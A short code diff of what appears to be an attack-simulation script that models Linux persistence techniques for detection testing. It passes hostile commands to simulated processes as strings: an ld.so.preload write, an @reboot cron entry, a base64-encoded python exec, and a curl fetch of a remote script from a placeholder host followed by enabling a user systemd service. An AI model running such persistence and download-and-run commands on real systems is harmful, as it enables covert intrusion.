@@ -101,7 +101,7 @@ def linux_preload(s):
         host.write(process, "/etc/ld.so.preload")
         yield 1
         child = host.start(copy, process, copy, habit=beacon(far, 8080, 35 * MINUTE, 50 * MINUTE))
-        shell = host.start(BASH, child, "bash -c echo '@reboot root /var/lib/.pamcache/pamcached' > /etc/cron.d/pamcache")
+        shell = host.start(BASH, child, f"bash -c echo '@reboot root {copy}' > /etc/cron.d/pamcache")
         host.write(shell, "/etc/cron.d/pamcache")
         host.stop(shell)
     s.go(act, host, 3.5 * HOUR)
@@ -247,7 +247,8 @@ def pip_user_unit(s):
         host.stop(pip)
         yield 40
         child = host.start("/usr/bin/python3.11", login, "python3 report.py")
-        inner = host.start("/usr/bin/python3.11", child, "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))")
+        inner = host.start("/usr/bin/python3.11", child,
+                           "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))")
         yield 2
         shell = host.start(DASH, inner, f"sh -c curl -s https://{far}/x.py -o {implant} && systemctl --user enable "
                            "--now sysmon")
